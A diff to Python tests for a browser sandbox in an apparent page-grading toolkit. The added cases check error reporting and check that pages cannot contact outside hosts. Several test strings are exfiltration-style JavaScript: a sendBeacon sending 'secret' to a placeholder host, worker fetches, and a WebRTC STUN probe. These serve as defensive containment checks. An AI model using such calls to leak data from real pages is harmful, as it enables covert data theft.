@@ -13,6 +13,7 @@ from attrs import evolve
 from evalkit.analysis.model import Check, PageSpec
 from evalkit.execute.lanes import LANES
 from evalkit.grade.grader import grade_check
+from evalkit.grade.page_child import _is_its_own
 from evalkit.grade.verdict import Verdict
 from tests.processes import proc_files
 from tests.sandbox import bwrap
@@ -67,13 +68,20 @@ def test_a_page_that_works(tmp_path: Path, lane: str) -> None:
     ("<script>setTimeout(() => fetch('late.json').catch(() => {}), 500)</script>", "index.html: failed request",
      "failed request: /late.json: status 404"),
     ("<script>console.error('broken: %d', 7)</script>", "index.html: console error", "console error: broken: "),
+    ("<script>console.error('Failed to load resource: mine')</script>", "index.html: console error",
+     "console error: Failed to load resource: mine"),
+    ("<script>console.error('over: net::ERR_ABORTED')</script>", "index.html: console error", "console error: over: "),
+    ("<script>console.assert(1 > 2, 'no order')</script>", "index.html: console error", "console error: no order"),
+    ("<script>const t = Date.now(); while (Date.now() - t < 4000); setTimeout(() => { throw Error('late') }, 1200)"
+     "</script>", "index.html: uncaught error", "uncaught error: Error: late"),
     ("<script>for (;;) {}</script>", "index.html: time limit", "time limit: the page did not load within 5 s"),
     ("<script>setTimeout(() => { for (;;) {} }, 500)</script>", "index.html: time limit",
      "time limit: the page did not answer within 5 s"),
     ("<script>alert(1); confirm('2')</script><script>throw 'text'</script>", "index.html: uncaught error",
      "uncaught error: "),
 ], ids=["no such address", "no such module", "no such package", "late exception", "unhandled rejection",
-        "no such image", "late request", "console", "endless loop", "late endless loop", "dialogs"])
+        "no such image", "late request", "console", "said as the browser says it", "said as given up", "assertion",
+        "late after a slow load", "endless loop", "late endless loop", "dialogs"])
 def test_what_goes_wrong(tmp_path: Path, body: str, summary: str, told: str) -> None:
     """Each is a fail that says so."""
     verdict = loaded(tmp_path, body, limit=5)
@@ -105,12 +113,34 @@ def elsewhere() -> Iterator[tuple[str, list[str]]]:
     "window.open('http://HOST/')", "navigator.sendBeacon('http://HOST/b', 'secret')",
     "new Worker(URL.createObjectURL(new Blob([`fetch('http://HOST/x').catch(() => {})`])))",
     "location.href = 'http://HOST/'",
+    "new SharedWorker(URL.createObjectURL(new Blob([`fetch('http://HOST/x').catch(() => {})`])))",
 ])
 def test_nothing_leaves_the_page(tmp_path: Path, elsewhere: tuple[str, list[str]], attempt: str) -> None:
     """Whatever a page tries, nobody hears of it, and it is told."""
     host, visitors = elsewhere
     _refused(loaded(tmp_path, f"<script>{attempt.replace('HOST', host)}</script>"), host)
     assert [] == visitors
+
+
+def test_no_packet_leaves_the_page(tmp_path: Path) -> None:
+    """Calls between browsers begin with datagrams, which no proxy sees."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as other:
+        other.bind(("127.0.0.2", 0))
+        other.setblocking(False)
+        loaded(tmp_path, f"""<script>(async () => {{
+          const peer = new RTCPeerConnection({{iceServers: [{{urls: 'stun:127.0.0.2:{other.getsockname()[1]}'}}]}});
+          peer.createDataChannel('x');
+          await peer.setLocalDescription(await peer.createOffer());
+        }})()</script>""")
+        with pytest.raises(BlockingIOError):
+            other.recv(2000)
+
+
+def test_what_the_browser_itself_asks_for() -> None:
+    """It goes by whole names of hosts, whatever a page's host ends with."""
+    asked = ("clients2.google.com:443", "http://www.gstatic.com/x", "google.com", "evilgoogle.com:443",
+             "http://127.0.0.2:80/google.com", "google.com.invalid")
+    assert asked[:3] == tuple(filter(_is_its_own, asked))
 
 
 def test_nothing_leaves_the_sandbox(tmp_path: Path, elsewhere: tuple[str, list[str]]) -> None:
